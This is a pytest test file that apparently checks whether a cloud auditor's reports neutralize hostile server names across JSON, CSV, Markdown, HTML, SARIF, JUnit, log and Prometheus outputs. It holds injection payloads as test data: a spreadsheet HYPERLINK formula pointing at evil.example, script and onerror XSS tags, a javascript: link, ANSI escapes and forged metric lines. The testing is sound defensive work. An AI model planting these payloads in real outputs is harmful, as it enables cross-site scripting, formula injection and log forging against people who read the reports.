"""Point 3 of the security round: names chosen by tenants are harmless in every output.

The sandbox serves a source cloud whose server name, project description and
server metadata carry HTML and script, ANSI escapes and other control
characters, Markdown and table breakers, a spreadsheet formula, forged report
lines, a NUL, a right-to-left override, a lone surrogate and 5000 more characters; the
target lacks that server and changed those fields, so the hostile text is in
"missing" and "changed" findings. The audit runs over HTTP as users run it,
and each format is checked with the tool that would read it.
"""

from __future__ import annotations

import csv
import dataclasses
import html.parser
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from auditor.model import CollectionResult, Snapshot
from auditor.sandbox import Sandbox
from auditor.textsafe import UNSAFE
from tests.reliability.world import (
    SOURCE,
    TARGET,
    audit_argv,
    auditor,
    inventory,
    renamed,
    serving,
    source_snapshot,
)
from tests.sarifschema import validate as validate_sarif

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")'
    "<script>alert('x')</script><img src=x onerror=alert(1)>"
    "\x1b[2J\x1b[31mred\x1b[0m | cell | `code` *bold* [link](javascript:alert(1)) "
    "\r\n== FAKE SECTION\n# heading \x00nul \x07bell \u202egnp.exe \u2066iso\u2069 \ud800 "
    + "A"
    * 5000
)
EVIL_ID = "0d5a6b55-0000-4000-8000-00000000e71l"


def _hostile_clouds() -> tuple[Snapshot, Snapshot]:
    source = source_snapshot()
    servers = list(source.collections["servers"].items)
    projects = list(source.collections["projects"].items)
    evil = {**servers[0], "id": EVIL_ID, "name": HOSTILE, "metadata": {"note": HOSTILE}}
    projects[0] = {**projects[0], "description": HOSTILE}
    hostile_source = renamed(source, SOURCE, servers=[*servers, evil], projects=projects)
    target_servers = [{**servers[1], "metadata": {"note": "x"}}, *servers[:1], *servers[2:]]
    target = renamed(source, TARGET, servers=target_servers)
    return hostile_source, target


@pytest.fixture
def sandbox(tmp_path: Path) -> Iterator[Sandbox]:
    with serving(tmp_path, *_hostile_clouds()) as running:
        yield running


def _audit(tmp_path: Path, capsys: Any, fmt: str, *options: str) -> str:
    out = tmp_path / f"report.{fmt}"
    run = auditor(
        [
            *audit_argv(tmp_path / "clouds.yaml", "--no-progress", *options),
            "--format",
            fmt,
            "-o",
            str(out),
        ],
        capsys,
    )
    assert run.code == 1, run.stderr
    assert "Traceback" not in run.stderr
    return out.read_text(encoding="utf-8")


def _no_unsafe(text: str, keep: str = "\n") -> None:
    bad = {ch for ch in UNSAFE.findall(text) if ch not in keep}
    assert bad == set(), f"unsafe characters in the output: {sorted(map(ord, bad))}"


def test_json_keeps_the_names_verbatim(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report = json.loads(_audit(tmp_path, capsys, "json"))

    (missing,) = [f for f in report["findings"] if f["kind"] == "missing"]
    assert missing["source"]["name"] == HOSTILE


def test_text_shows_no_control_character_and_forges_no_line(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = _audit(tmp_path, capsys, "text")

    _no_unsafe(text)
    assert "\\x1b[2J" in text  # shown, as an escape
    assert "\\u202e" in text
    assert not any(line.startswith("== FAKE") for line in text.splitlines())
    assert max(len(line) for line in text.splitlines()) < 1500


def _cells(row: str) -> list[str]:
    return re.split(r"(?<!\\)\|", row.strip())[1:-1]


def test_markdown_makes_no_html_link_or_extra_cell(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = _audit(tmp_path, capsys, "markdown")

    _no_unsafe(text)
    assert "<script" not in text and "<img" not in text
    assert "[link](javascript" not in text
    assert not any(line.startswith(("== FAKE", "# heading")) for line in text.splitlines())
    # Every row of every table has as many cells as its header.
    width = None
    for line in text.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        if width is None:
            width = len(_cells(line))
        assert len(_cells(line)) == width, line[:200]


class _Elements(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_runs_no_script_of_the_tenants_and_shows_no_control(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = _audit(tmp_path, capsys, "html")
    parsed = _Elements()
    parsed.feed(page)

    assert parsed.tags.count("script") == 1  # the report's own filter script
    assert "img" not in parsed.tags
    _no_unsafe(page, keep="\n")


def test_junit_is_valid_xml_without_controls(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    xml = _audit(tmp_path, capsys, "junit")

    root = ET.fromstring(xml.encode("utf-8"))
    assert root.tag == "testsuites"
    _no_unsafe(xml, keep="\n")
    messages = [e.get("message") or "" for e in root.iter() if e.tag in ("failure", "skipped")]
    assert any("\\x1b[2J" in m for m in messages)


def test_csv_runs_no_formula_and_shows_no_control(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = _audit(tmp_path, capsys, "csv")

    _no_unsafe(text)
    rows = list(csv.DictReader(text.splitlines()))
    (missing,) = [r for r in rows if r["kind"] == "missing"]
    assert missing["source_name"].startswith("'=HYPERLINK(")  # shown as text, not run
    assert "\\x1b[2J" in missing["source_name"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value[:80]


def test_sarif_is_valid_and_shows_no_control_where_people_read(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = json.loads(_audit(tmp_path, capsys, "sarif"))

    validate_sarif(doc)
    results = doc["runs"][0]["results"]
    (missing,) = [r for r in results if r["ruleId"] == "servers/missing"]
    assert missing["properties"]["source"]["name"] == HOSTILE  # the data, verbatim
    shown = [r["message"]["text"] for r in results]
    shown += [
        loc.get(key, "")
        for r in results
        for where in r["locations"]
        for loc in where["logicalLocations"]
        for key in ("name", "fullyQualifiedName")
    ]
    for text in shown:
        _no_unsafe(text)
    assert any("\\x1b[2J" in text for text in shown)


def test_console_and_json_logs_stay_one_clean_line_per_event(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A hostile server's reason phrase (ANSI escapes) ends up in a log line.
    evil = "Teapot \x1b[2J\x1b[31mevil.example\x1b[0m\x07"
    sandbox.faults.fail(r"^/cw/compute/v2\.1/servers/detail", 418, times=None, reason=evil)
    console = inventory(tmp_path, capsys, output=str(tmp_path / "inv.json"))
    as_json = inventory(tmp_path, capsys, "--log-format", "json", output=str(tmp_path / "inv.json"))

    assert console.code == as_json.code == 3
    _no_unsafe(console.stderr)
    assert any("evil.example" in line for line in console.error_lines)
    events = [json.loads(line) for line in as_json.error_lines]
    assert any("evil.example" in json.dumps(e) for e in events)


def test_prometheus_labels_from_a_hostile_snapshot_stay_parseable(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from prometheus_client.parser import text_string_to_metric_families

    cloud = 'cw"} evil 1\n# HELP forged\x00\u202e\ud800\\'
    source, target = _hostile_clouds()
    source = dataclasses.replace(source, cloud=cloud)
    paths = []
    for name, snapshot in (("source", source), ("target", target)):
        path = tmp_path / f"{name}.json"
        path.write_text(
            json.dumps(snapshot.to_json(), ensure_ascii=True), encoding="utf-8"
        )  # a lone surrogate stays an escape in the file
        paths.append(str(path))
    metrics = tmp_path / "auditor.prom"

    run = auditor(
        ["diff", *paths, "-o", str(tmp_path / "r.json"), "--metrics-file", str(metrics)], capsys
    )

    assert run.code == 1, run.stderr
    text = metrics.read_text(encoding="utf-8")
    _no_unsafe(text, keep="\n")
    families = {f.name: f for f in text_string_to_metric_families(text)}
    assert "forged" not in families
    (info,) = families["auditor_info"].samples
    assert info.labels["source"].startswith('cw"} evil 1')


def test_a_lone_surrogate_in_a_served_name_is_written_as_its_escape(
    sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "inv.json"
    run = inventory(tmp_path, capsys, output=str(out))

    assert run.code == 0, run.stderr
    doc = json.loads(out.read_text(encoding="utf-8"))
    servers = doc["collections"]["servers"]["items"]
    assert [s["name"] for s in servers if s["id"] == EVIL_ID] == [HOSTILE]
    assert Snapshot.from_json(doc, "inv").collections["servers"] != CollectionResult(
        "error"  # type: ignore[arg-type]
    )
